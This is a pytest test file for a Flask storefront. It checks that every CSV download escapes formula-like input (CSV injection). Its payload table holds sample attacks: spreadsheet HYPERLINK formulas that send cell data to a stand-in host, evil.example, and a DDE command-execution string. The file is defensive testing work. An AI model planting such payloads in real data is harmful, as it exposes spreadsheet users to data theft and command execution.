"""No CSV download lets typed text become a spreadsheet formula (CSV injection, OWASP).

A vendor or a member of staff types a formula into every text field that reaches a CSV file
(vendor name, product code and name, batch code, bank code, account and holder, a write-off
reason, a staff name); every export is downloaded and no cell may start like a formula, while
amounts and quantities stay plain numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
import time_machine
from flask import url_for

from storefront.auth.access import allowed_roles
from storefront.auth.models import Role
from storefront.extensions import db
from storefront.settlements import services as service
from storefront.stock import ledger
from storefront.stock.models import MovementKind
from storefront.vendors.models import VendorMember
from tests.conftest import Client
from tests.factories import PASSWORD, CategoryFactory, ProductFactory, UserFactory, VendorFactory
from tests.integration.test_settlements import paid_order, wib
from tests.stock_helpers import receive

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+$")

# One payload per field, so a test failure names the field that leaked.
PAYLOADS = {
    "vendor_name": '=HYPERLINK("https://evil.example/?d="&D3,"Kopi")',
    "product_code": "+KOPI-1",
    "product_name": "-2+3 Kopi",
    "batch_code": "@SUM(B1)",
    "reason": "  =1+1 rusak",
    "staff_name": "\t=cmd|' /C calc'!A0",
    "bank_code": "=BCA",
    "bank_account": "-0+1234567890",
    "bank_holder": '=HYPERLINK("https://evil.example/?d="&D2,"Budi")',
}


def formula_cells(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")))
    return [
        cell
        for row in rows
        for cell in row
        if not NUMBER.match(cell)
        and (cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS))
    ]


def escaped_payloads(text: str) -> set[str]:
    cells = {cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row}
    return {name for name, payload in PAYLOADS.items() if "'" + payload in cells}


def sign_in(app, user) -> Client:
    client = Client(app.test_client())
    assert client.login(user.email, PASSWORD).status_code == 302
    return client


@pytest.fixture
def books(ctx):
    """A vendor whose every typed field is a formula, with a closed, unpaid October statement."""
    staff = UserFactory(role=Role.MANAGER.value, name=PAYLOADS["staff_name"])
    admin = UserFactory(role=Role.ADMIN.value)
    vendor = VendorFactory(
        name=PAYLOADS["vendor_name"],
        bank_code=PAYLOADS["bank_code"],
        bank_holder=PAYLOADS["bank_holder"],
    )
    vendor.bank_account = PAYLOADS["bank_account"]
    owner = UserFactory(role=Role.VENDOR.value)
    db.session.add(VendorMember(vendor_id=vendor.id, user_id=owner.id, role="owner"))
    db.session.commit()
    product = ProductFactory(
        vendor=vendor,
        category=CategoryFactory(),
        code=PAYLOADS["product_code"],
        name=PAYLOADS["product_name"],
        price=100_000,
    )
    with time_machine.travel(wib("2026-10-02 09:00"), tick=False):
        batch = receive(product, 5, actor=staff, code=PAYLOADS["batch_code"])
    with time_machine.travel(wib("2026-10-03 09:00"), tick=False):
        ledger.remove_from_batch(
            batch,
            1,
            MovementKind.DAMAGE_LOSS,
            actor_id=staff.id,
            reference_type="write_off",
            reference_id=None,
            reason=PAYLOADS["reason"],
        )
        db.session.commit()
    paid_order([(product, 2)], wib("2026-10-10 10:00"))
    (statement,) = service.generate([vendor], date(2026, 10, 1), date(2026, 10, 31))
    service.close_settlement(statement, actor=staff)
    db.session.commit()
    assert statement.net_payable > 0
    return {"admin": admin, "owner": owner, "staff": staff, "statement": statement}


def test_the_statement_csv_escapes_what_the_vendor_typed(app, books):
    manager = sign_in(app, books["staff"])
    text = manager.get(f"/manage/settlements/{books['statement'].id}/statement.csv").get_data(
        as_text=True
    )
    assert formula_cells(text) == []
    assert {"vendor_name", "product_code", "product_name"} <= escaped_payloads(text)
    assert "vendor_share," + str(books["statement"].vendor_share) in text  # still a number


def test_the_vendor_sees_the_same_escaped_statement_csv(app, books):
    owner = sign_in(app, books["owner"])
    text = owner.get(f"/vendor/statements/{books['statement'].id}/statement.csv").get_data(
        as_text=True
    )
    assert formula_cells(text) == []
    assert {"vendor_name", "product_code", "product_name"} <= escaped_payloads(text)


def test_the_payout_csv_escapes_bank_details_and_keeps_the_amount_a_number(app, books):
    admin = sign_in(app, books["admin"])
    text = admin.post_form("/manage/settlements/payouts.csv", {}).get_data(as_text=True)
    assert formula_cells(text) == []
    assert {"vendor_name", "bank_code", "bank_account", "bank_holder"} <= escaped_payloads(text)
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["amount"] == str(books["statement"].net_payable)


def test_the_movement_csvs_escape_names_codes_and_reasons(app, books):
    manager = sign_in(app, books["staff"])
    text = manager.get("/manage/stock/movements.csv").get_data(as_text=True)
    assert formula_cells(text) == []
    assert {
        "vendor_name",
        "product_code",
        "product_name",
        "batch_code",
        "reason",
        "staff_name",
    } <= escaped_payloads(text)
    assert ",-1," in text  # the write-off stays a negative number

    owner = sign_in(app, books["owner"])
    text = owner.get("/vendor/stock/movements.csv").get_data(as_text=True)
    assert formula_cells(text) == []
    assert {"product_code", "batch_code", "reason", "staff_name"} <= escaped_payloads(text)


def test_every_csv_route_escapes_every_text_field(app, books):
    """Walks the app's routes, so a new CSV download is checked without being listed here."""
    clients = {"vendor": sign_in(app, books["owner"]), "staff": sign_in(app, books["admin"])}
    values = {"settlement_id": books["statement"].id}
    rules = [r for r in app.url_map.iter_rules() if r.rule.endswith(".csv")]
    assert len(rules) >= 5, [r.rule for r in rules]
    reached: set[str] = set()
    for rule in rules:
        unknown = rule.arguments - values.keys()
        assert not unknown, f"teach this test the URL arguments {unknown} of {rule.rule}"
        roles = allowed_roles(app.view_functions[rule.endpoint])
        client = clients["vendor" if Role.VENDOR in roles else "staff"]
        with app.test_request_context():
            url = url_for(rule.endpoint, **{name: values[name] for name in rule.arguments})
        response = client.get(url) if "GET" in rule.methods else client.post_form(url, {})
        assert response.status_code == 200, rule.rule
        assert response.mimetype == "text/csv", rule.rule
        text = response.get_data(as_text=True)
        assert formula_cells(text) == [], rule.rule
        reached |= escaped_payloads(text)
    assert reached == set(PAYLOADS)
